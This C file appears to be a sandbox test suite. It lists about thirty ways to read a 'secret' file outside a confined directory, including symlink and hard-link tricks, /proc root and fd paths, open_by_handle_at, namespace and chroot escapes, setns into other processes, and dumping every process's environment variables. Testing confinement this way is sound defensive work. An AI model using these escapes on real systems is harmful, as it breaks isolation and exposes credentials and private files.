// Reading files that are in no place.
#include <dirent.h>
#include <linux/openat2.h>
#include <sched.h>
#include <sys/inotify.h>
#include <sys/mount.h>
#include <poll.h>

#include "attempt.h"

static void direct(void) { show_path(outside("secret")); }
static void dotdot(void) { show_path("../outside/secret"); }
static void own_symlink(void) {
  symlink(outside("secret"), "to-secret");
  show_path("to-secret");
}
static void relative_symlink(void) {
  mkdir("deep", 0755);
  symlink("../../outside/secret", "deep/to-secret");
  show_path("deep/to-secret");
}
static void given_symlink(void) { show_path("link-out/secret"); }
static void given_symlink_dotdot(void) { show_path("link-out/../outside/secret"); }
static void hard_link(void) {
  if (link(outside("secret"), "hard-secret") != 0) printf("(%s)\n", strerror(errno));
  show_path("hard-secret");
}
static void proc_self_root(void) {
  char path[4096];
  snprintf(path, sizeof path, "/proc/self/root%s", outside("secret"));
  show_path(path);
}

// Calls with each process's directory of /proc.
static void each_process(void (*use)(const char* directory)) {
  DIR* proc = opendir("/proc");
  char path[512];
  for (struct dirent* entry; proc && (entry = readdir(proc));) {
    if (*entry->d_name < '0' || *entry->d_name > '9') continue;
    snprintf(path, sizeof path, "/proc/%.20s", entry->d_name);
    use(path);
  }
}
static void show_below(const char* process, const char* what, const char* rest) {
  char path[8192];
  snprintf(path, sizeof path, "%s/%s%s", process, what, rest);
  int fd = open(path, O_RDONLY | O_NONBLOCK);
  if (fd >= 0) show(fd);
}
static void through_root(const char* process) { show_below(process, "root", outside("secret")); }
static void proc_roots(void) { each_process(through_root); }
static void through_cwd(const char* process) {
  show_below(process, "cwd", "/secret");
  show_below(process, "cwd", "/../outside/secret");
}
static void proc_cwds(void) { each_process(through_cwd); }
static void proc_victim_fd(void) {
  show_below("/proc", arena("victim"), "");
  char path[64];
  snprintf(path, sizeof path, "/proc/%s/fd/%s", arena("victim"), arena("victim_reads"));
  show_path(path);
}
static void proc_victim_files(void) {  // the same memory as a file
  char path[64];
  snprintf(path, sizeof path, "/proc/%s/root", arena("victim"));
  int root = open(path, O_PATH | O_DIRECTORY);
  if (root < 0) return show(root);
  show(openat(root, outside("secret") + 1, O_RDONLY));
}
static void in_root(void) {
  struct open_how how = {.flags = O_RDONLY, .resolve = RESOLVE_IN_ROOT};
  int root = open("/", O_PATH | O_DIRECTORY);
  show((int)syscall(SYS_openat2, root, outside("secret"), &how, sizeof how));
  how.resolve = 0;
  show((int)syscall(SYS_openat2, AT_FDCWD, "../outside/secret", &how, sizeof how));
}
static void change_directory(void) {
  if (chdir("..") == 0) show_path("outside/secret");
  if (chdir(arena("outside")) == 0) show_path("secret");
}
static void path_descriptor(void) {
  int directory = open(arena("outside"), O_PATH | O_DIRECTORY);
  show(openat(directory, "secret", O_RDONLY));
  if (fchdir(directory) == 0) show_path("secret");
}
static void path_reopened(void) {
  char path[64];
  int fd = open(outside("secret"), O_PATH);
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  show_path(path);
  snprintf(path, sizeof path, "/dev/fd/%d", fd);
  show_path(path);
}
static void listing(void) {
  DIR* directory = opendir(arena("outside"));
  for (struct dirent* entry; directory && (entry = readdir(directory));) puts(entry->d_name);
}
static void execute(void) {
  fflush(stdout);
  execl(outside("leak.sh"), "leak.sh", (char*)NULL);
  printf("(%s)\n", strerror(errno));
}
static void by_handle(void) {
  struct {
    struct file_handle handle;
    unsigned char bytes[128];
  } known = {.handle = {0, 0}};
  const char* text = arena("handle");
  sscanf(text, "%d", &known.handle.handle_type);
  text = strchr(text, ':');
  for (text = text ? text + 1 : ""; text[0] && text[1]; text += 2) {
    unsigned byte;
    sscanf(text, "%2x", &byte);
    known.bytes[known.handle.handle_bytes++] = (unsigned char)byte;
  }
  int mount = open(".", O_RDONLY | O_DIRECTORY);
  show((int)syscall(SYS_open_by_handle_at, mount, &known.handle, O_RDONLY));
}
static void new_mounts(void) {
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0 && unshare(CLONE_NEWNS) != 0)
    printf("(%s)\n", strerror(errno));
  mkdir("seen", 0755);
  if (mount("/", "seen", NULL, MS_BIND | MS_REC, NULL) != 0) printf("(%s)\n", strerror(errno));
  show_path("seen/../../outside/secret");
  char path[4200];
  snprintf(path, sizeof path, "seen%s", outside("secret"));
  show_path(path);
  if (umount2("/", MNT_DETACH) == 0) show_path(outside("secret"));
}
static void classic_chroot(void) {
  mkdir("jail", 0755);
  int here = open(".", O_RDONLY | O_DIRECTORY);
  if (chroot("jail") != 0) return show(-1);
  fchdir(here);
  for (int i = 0; i < 64; ++i) chdir("..");
  chroot(".");
  show_path(outside("secret"));
}
static void enter_mounts(const char* process) {
  char path[64];
  snprintf(path, sizeof path, "%s/ns/mnt", process);
  int other = open(path, O_RDONLY);
  if (other < 0) return;
  if (setns(other, CLONE_NEWNS) == 0) show_path(outside("secret"));
  close(other);
}
static void other_mounts(void) { each_process(enter_mounts); }
static void inherited(void) {
  for (int fd = 0; fd < 1024; ++fd) {
    int there = openat(fd, "secret", O_RDONLY);
    if (there < 0) there = openat(fd, outside("secret") + 1, O_RDONLY);
    if (there >= 0) show(there);
  }
}
// Where the standard input is the directory outside.
static void given_directory(void) {
  show(openat(0, "secret", O_RDONLY));
  show(openat(0, "../outside/secret", O_RDONLY));
  show_path("/proc/self/fd/0/secret");
  if (fchdir(0) == 0) show_path("secret");
}
static void given_directory_above(void) {
  int above = openat(0, "..", O_RDONLY | O_DIRECTORY);
  show(openat(above, "outside/secret", O_RDONLY));
}
// Where the standard output is a file outside that holds something already.
static void given_file_reread(void) {
  char bytes[4096] = "";
  int fd = open("/proc/self/fd/1", O_RDONLY);
  ssize_t size = fd < 0 ? 0 : read(fd, bytes, sizeof bytes);
  put_path("loot", size > 0 ? bytes : "");
}
static void watched(void) {
  int fd = inotify_init1(IN_NONBLOCK);
  inotify_add_watch(fd, arena("outside"), IN_ALL_EVENTS);
  struct pollfd event = {fd, POLLIN, 0};
  char bytes[4096];
  if (poll(&event, 1, 600) > 0) {
    ssize_t size = read(fd, bytes, sizeof bytes);
    if (size > 0) fwrite(bytes, 1, (size_t)size, stdout);
  }
}
static void process_environment(void) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%s/environ", arena("victim"));
  show_path(path);
}
static void show_environment(const char* process) {
  char path[64], bytes[65536];
  snprintf(path, sizeof path, "%s/environ", process);
  int fd = open(path, O_RDONLY);
  ssize_t size = fd < 0 ? 0 : read(fd, bytes, sizeof bytes);
  if (size > 0) fwrite(bytes, 1, (size_t)size, stdout);
  if (fd >= 0) close(fd);
}
extern char** environ;
static void environments(void) {
  for (char** each = environ; *each; ++each) puts(*each);
  each_process(show_environment);
}

const struct attempt kReading[] = {
    {"read-direct", direct},
    {"read-dotdot", dotdot},
    {"read-own-symlink", own_symlink},
    {"read-relative-symlink", relative_symlink},
    {"read-given-symlink", given_symlink},
    {"read-given-symlink-dotdot", given_symlink_dotdot},
    {"read-hard-link", hard_link},
    {"read-proc-self-root", proc_self_root},
    {"read-proc-roots", proc_roots},
    {"read-proc-cwds", proc_cwds},
    {"read-proc-fd", proc_victim_fd},
    {"read-proc-root-descriptor", proc_victim_files},
    {"read-openat2", in_root},
    {"read-chdir", change_directory},
    {"read-path-descriptor", path_descriptor},
    {"read-path-reopened", path_reopened},
    {"read-listing", listing},
    {"read-execute", execute},
    {"read-handle", by_handle},
    {"read-new-mounts", new_mounts},
    {"read-chroot", classic_chroot},
    {"read-other-mounts", other_mounts},
    {"read-inherited", inherited},
    {"read-given-directory", given_directory},
    {"read-given-directory-above", given_directory_above},
    {"read-given-file", given_file_reread},
    {"read-watched", watched},
    {"read-environment", process_environment},
    {"read-environments", environments},
    {NULL, NULL}};
